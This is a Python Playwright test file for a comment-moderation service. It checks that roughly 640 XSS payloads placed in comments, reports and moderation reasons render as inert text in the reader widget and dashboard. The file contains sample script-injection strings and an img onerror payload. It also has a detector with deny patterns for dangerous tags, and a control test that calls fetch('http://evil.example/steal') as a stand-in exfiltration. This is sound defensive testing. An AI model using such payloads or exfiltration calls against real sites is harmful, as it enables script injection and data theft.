"""Hostile input rendered in real Chromium: the reader widget and every dashboard page that shows
readers' words, with zero script executions.

Every payload (our set plus blns when present) goes in through the real API and worker as comment
author, body and page title, and as every field of an error report; moderators then reject,
fix and correct with payloads as reasons, bodies and corrections so the audit log holds them too.
A detector installed before any page script records:
- dialogs (alert/confirm/prompt are replaced by recorders, and Playwright's dialog event is watched);
- writes to `window.__xss` (the set's payloads try it);
- elements a payload would inject, the moment they are inserted (a MutationObserver on the
  document and on every shadow root): any element with an `on*` attribute, a `script` that is
  not ours, `iframe`/`object`/`embed`/`base`/`meta`/`link`/`style`/`svg`/`math`/`img`/`video`/
  `audio`/`form`/`input` inside readers' content, and any element with an id starting `xss`;
- every request to a host other than the live server.
Payloads are batched: a page shows 50 items (the widget all of them), so a few dozen page
loads cover ~640 payloads in five fields each.
"""
import re

import pytest
import sqlalchemy as sa

from moderation.extensions import db
from moderation.models import Comment, ReportCluster
from test_hostile_api import COMMENT_FIELDS, REPORT_FIELDS

from support.hostile import all_payloads

pytestmark = pytest.mark.browser
PAYLOADS = all_payloads()

DETECTOR = r"""
(() => {
  const hits = [];
  Object.defineProperty(window, '__hits', { value: hits });
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = (...args) => { hits.push(name + '(' + String(args[0]).slice(0, 60) + ')'); };
  }
  Object.defineProperty(window, '__xss', {
    set(v) { hits.push('__xss=' + String(v).slice(0, 40)); }, get() { return undefined; },
  });
  // Readers' content lives in these containers; our own markup elsewhere may use forms and inputs.
  const CONTENT = '.body, .parent, .context, .suggestions, .notes, .diff, .reasons, q, .author, '
    + '[role=feed] .b, [role=feed] .m, .comment-body, td, .history';
  const NEVER = /^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|META|LINK|STYLE|FRAME|FRAMESET|APPLET|PORTAL)$/;
  const NOT_IN_CONTENT = /^(svg|math|img|video|audio|source|form|input|textarea|select|button|details|marquee|template|noscript|xmp|table|isindex|keygen|body|x|title|plaintext|object)$/i;
  const ours = (el) => el.tagName === 'SCRIPT' && el.src && new URL(el.src, location.href).origin === location.origin;
  function check(el) {
    if (!(el instanceof Element)) return;
    const where = el.tagName + (el.id ? '#' + el.id : '');
    if (/^(xss|fuzzelement)/i.test(el.id || '')) hits.push('injected ' + where);
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) hits.push('handler ' + where + ' ' + attr.name);
      if (/^(href|src|action|formaction|data|xlink:href)$/i.test(attr.name)
          && /^\s*(javascript|vbscript|data):/i.test(attr.value)) hits.push('url ' + where + ' ' + attr.value.slice(0, 40));
    }
    if (NEVER.test(el.tagName) && !ours(el) && el.closest && el.closest('body')) hits.push('element ' + where);
    if (el.parentElement && el.parentElement.closest(CONTENT) && NOT_IN_CONTENT.test(el.tagName)) {
      hits.push('in content ' + where);
    }
  }
  function scan(root) {
    if (root instanceof Element) check(root);
    if (root.querySelectorAll) root.querySelectorAll('*').forEach(check);
  }
  const observer = new MutationObserver((records) => {
    for (const r of records) r.addedNodes.forEach((n) => { if (n.nodeType === 1) scan(n); });
  });
  observer.observe(document, { childList: true, subtree: true });
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, init);
    observer.observe(root, { childList: true, subtree: true });
    return root;
  };
  window.__scanAll = () => {
    const walk = (root) => { scan(root); root.querySelectorAll('*').forEach((el) => el.shadowRoot && walk(el.shadowRoot)); };
    walk(document);
    return hits.slice();
  };
})();
"""


def hostile_page(new_page, live_server):
    page = new_page()
    page.add_init_script(DETECTOR)
    page.foreign = []
    page.on("request", lambda request: None if request.url.startswith(live_server + "/")
            else page.foreign.append(request.url))
    return page


def assert_harmless(page, where):
    hits = page.evaluate("window.__scanAll()")
    assert hits == [], (where, hits[:10])
    assert page.dialogs == [], (where, page.dialogs[:5])
    assert page.foreign == [], (where, page.foreign[:5])
    assert page.errors == [], (where, page.errors[:5])


def safe(rule, payload, fallback):
    ok, _ = rule(payload)
    return payload if ok else fallback


def submit_all(app, live_server, widget_only=False):
    """Every payload as widget comments, dashboard comments (with titles) and reports."""
    app.config["RATELIMIT_ENABLED"] = False
    client = app.test_client()
    for i, p in enumerate(PAYLOADS):
        author = safe(COMMENT_FIELDS["author"], p, f"author {i}")
        body = safe(COMMENT_FIELDS["body"], p, f"body {i}")
        sets = [("w", live_server + "/demo", None)]
        if not widget_only:
            sets.append(("d", f"{live_server}/demo?hostile={i}", safe(COMMENT_FIELDS["title"], p, None)))
        for kind, url, title in sets:
            response = client.post("/api/v1/comments", json={
                "site": "demo", "url": url, "author": author, "body": body, "title": title,
                "client_id": f"{kind}{i:06d}-hostile"})
            assert response.status_code == 202, (p, response.get_json())
        if widget_only:
            continue
        report = {"site": "demo", "url": f"{live_server}/demo?report={i}", "client_id": f"r{i:06d}-hostile",
                  "exact": safe(REPORT_FIELDS["exact"], p, f"exact {i}")}
        for field in ("prefix", "suffix", "suggestion", "comment"):
            report[field] = safe(REPORT_FIELDS[field], p, None)
        response = client.post("/api/v1/reports", json=report)
        assert response.status_code == 202, (p, response.get_json())


def moderate_all(app, staff, live_server):
    """Approve the widget set; reject, fix and correct with payloads as reasons and texts."""
    client = app.test_client()
    headers = staff.headers("admin")
    with app.app_context():
        comments = db.session.execute(sa.select(Comment.id, Comment.client_id)).all()
        clusters = db.session.execute(sa.select(ReportCluster.id).order_by(ReportCluster.id)).scalars().all()
    for comment_id, client_id in comments:
        i = int(client_id[1:7])
        p = PAYLOADS[i]
        if client_id.startswith("w"):
            response = client.post(f"/api/v1/moderation/comments/{comment_id}/approve", headers=headers)
        elif i % 3 == 0 and p.strip() and len(p.strip()) <= 500:
            response = client.post(f"/api/v1/moderation/comments/{comment_id}/reject", json={"reason": p},
                                   headers=headers)
        elif i % 3 == 1 and COMMENT_FIELDS["body"](p[:5000])[0]:
            response = client.post(f"/api/v1/moderation/comments/{comment_id}/fix",
                                   json={"body": p[:5000], "reason": p[:500].strip() or None}, headers=headers)
        else:
            continue
        assert response.status_code == 200, (p, response.get_json())
    for n, cluster_id in enumerate(clusters):
        p = PAYLOADS[n % len(PAYLOADS)]
        if n % 2 == 0 and p.strip():  # a correction may be anything, even empty after cleaning
            response = client.post(f"/api/v1/moderation/clusters/{cluster_id}/fix",
                                   json={"correction": p[:2000], "reason": p[:500].strip() or None}, headers=headers)
            assert response.status_code == 200, (p, response.get_json())


@pytest.mark.timeout(600)  # ~640 payloads with blns through API, worker and moderation first
def test_hostile_comments_in_the_reader_widget_run_nothing(app, live_server, new_page, drain, staff):
    submit_all(app, live_server, widget_only=True)
    drain()
    moderate_all(app, staff, live_server)
    page = hostile_page(new_page, live_server)
    page.goto(live_server + "/demo")
    assert_harmless(page, "demo page, server-rendered")  # before the widget takes over
    page.wait_for_function("() => window.__moderationWidget === true")
    more = page.get_by_role("button", name="Показать ещё")
    page.wait_for_function("() => document.querySelector('[data-moderation-widget]')"
                           "?.shadowRoot?.querySelectorAll('article.c').length > 0")
    for _ in range(len(PAYLOADS) // 50 + 2):  # "Show more" until every comment is on the page
        if not more.is_visible():
            break
        before = page.evaluate("() => document.querySelector('[data-moderation-widget]').shadowRoot"
                               ".querySelectorAll('article.c').length")
        more.click()
        page.wait_for_function(
            "(n) => document.querySelector('[data-moderation-widget]').shadowRoot"
            ".querySelectorAll('article.c').length > n", arg=before)
    shown = page.evaluate("() => document.querySelector('[data-moderation-widget]').shadowRoot"
                          ".querySelectorAll('article.c').length")
    assert shown == len(PAYLOADS)
    text = page.evaluate("() => document.querySelector('[data-moderation-widget]').shadowRoot.textContent")
    assert "<script>window.__xss=1</script>" in text  # shown as text, not run
    assert "{{7*7}}" in text and "49" not in text.split("{{7*7}}")[0][-5:]
    page.wait_for_timeout(300)  # let any late onerror/onload fire
    assert_harmless(page, "widget")


def _visit_queue(page, live_server, path):
    """Load a queue and every following page; returns the number of items seen."""
    seen, url = 0, live_server + path
    while url:
        response = page.goto(url)
        assert response.status == 200, url
        seen += page.locator(".queue .item").count()
        assert_harmless(page, url)
        more = page.locator("a.more")
        url = more.get_attribute("href") if more.count() else None
        if url:
            url = live_server + url
    return seen


@pytest.mark.timeout(900)
def test_hostile_input_in_every_dashboard_page_runs_nothing(app, live_server, new_page, drain, staff, auth):
    submit_all(app, live_server)
    drain()
    moderate_all(app, staff, live_server)
    email = auth.create("admin")
    page = hostile_page(new_page, live_server)
    page.goto(live_server + "/dashboard/login")
    page.fill("#email", email)
    page.fill("#password", auth.PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(re.compile(r".*/dashboard/comments.*"))
    counted = 0
    for status in ("pending", "approved", "rejected", "spam", "flagged"):
        counted += _visit_queue(page, live_server, f"/dashboard/comments?status={status}")
    assert counted == 2 * len(PAYLOADS)
    counted = 0
    for status in ("new", "fixed"):
        counted += _visit_queue(page, live_server, f"/dashboard/reports?status={status}")
    assert counted == len(PAYLOADS)
    # Item pages (thread context, readers' table, diffs, history) for a sample of the most hostile.
    with app.app_context():
        comment_ids = db.session.execute(sa.select(Comment.id).where(Comment.client_id.like("d%"))
                                         .order_by(Comment.id).limit(12)).scalars().all()
        cluster_ids = db.session.execute(sa.select(ReportCluster.id).order_by(ReportCluster.id)
                                         .limit(12)).scalars().all()
    for path in [f"/dashboard/comments/{i}" for i in comment_ids] + [f"/dashboard/reports/{i}" for i in cluster_ids]:
        response = page.goto(live_server + path)
        assert response.status == 200, path
        assert_harmless(page, path)
    # The audit log: every reason, body and correction written above.
    url, entries = live_server + "/dashboard/audit", 0
    while url:
        assert page.goto(url).status == 200
        entries += page.locator("tr[data-entry]").count()
        assert_harmless(page, url)
        more = page.locator("a.more")
        url = live_server + more.get_attribute("href") if more.count() else None
    assert entries >= len(PAYLOADS)
    # The keyboard script works on hostile items too (and still runs nothing).
    page.goto(live_server + "/dashboard/comments?status=pending")
    page.keyboard.press("j")
    page.keyboard.press("?")
    assert page.locator("#help").is_visible()
    assert_harmless(page, "keyboard")


def test_the_detector_catches_each_kind_of_execution(live_server, new_page):
    """The control for the tests above: unescaped payloads are seen, each in its own way."""
    page = hostile_page(new_page, live_server)
    page.goto(live_server + "/demo")
    page.evaluate("""() => {
        const box = document.createElement('div'); box.className = 'comment-body';
        document.body.appendChild(box);
        box.innerHTML = '<img id=xss1 src=x onerror="window.__xss=1; alert(7)"><svg></svg>';
    }""")
    page.wait_for_function("() => window.__hits.some((h) => h.startsWith('alert'))")
    page.evaluate("() => fetch('http://evil.example/steal').catch(() => {})")
    page.wait_for_timeout(300)
    hits = page.evaluate("window.__scanAll()")
    for expected in ("alert(7)", "__xss=1", "injected IMG#xss1", "handler IMG#xss1 onerror", "in content svg"):
        assert any(h.startswith(expected) for h in hits), (expected, hits)
    assert any(url.startswith("http://evil.example/") for url in page.foreign)


def squash(text):
    """Like JavaScript's replace(/\\s+/g, " ") (which also counts U+FEFF as a space), trimmed."""
    return re.sub(r"[\s\ufeff]+", " ", text).strip()


def test_hostile_article_text_in_the_report_dialog_runs_nothing(live_server, new_page):
    """The dialog shows the reader's selection from the page: page text must stay text there too.
    Our own set (escaped, so the article shows it as text) is selected one paragraph at a time."""
    import html

    from support.hostile import own_payloads

    payloads = [p for p in own_payloads() if p.strip()]
    page = hostile_page(new_page, live_server)

    def inject(route):
        response = route.fetch()
        extra = "".join(f'<p data-hostile="{i}">{html.escape(p)}</p>' for i, p in enumerate(payloads))
        route.fulfill(response=response, body=response.text().replace("<article class=\"article-body\" data-article>",
                                                                     "<article class=\"article-body\" data-article>" + extra, 1))

    page.route(live_server + "/demo", inject)
    page.goto(live_server + "/demo")
    page.wait_for_function("() => window.__moderationWidget === true")
    opened = 0
    for i, payload in enumerate(payloads):
        selected = page.evaluate("""(i) => {
            const p = document.querySelector(`[data-hostile="${i}"]`);
            const range = document.createRange(); range.selectNodeContents(p);
            const sel = getSelection(); sel.removeAllRanges(); sel.addRange(range);
            return sel.toString();
        }""", i)
        squashed = squash(payload)
        assert squash(selected) == squashed  # the browser collapses spaces in <p>
        page.keyboard.press("Control+Enter")
        mark = page.locator("[role=dialog] mark")
        mark.wait_for()
        if len(squashed) <= 300:  # the widget keeps the first 300 characters of a longer selection
            assert squash(mark.inner_text()) == squashed, (payload, mark.inner_text())
        page.keyboard.press("Escape")
        page.locator("[role=dialog]").wait_for(state="detached")
        opened += 1
    assert opened == len(payloads)
    assert_harmless(page, "report dialog")
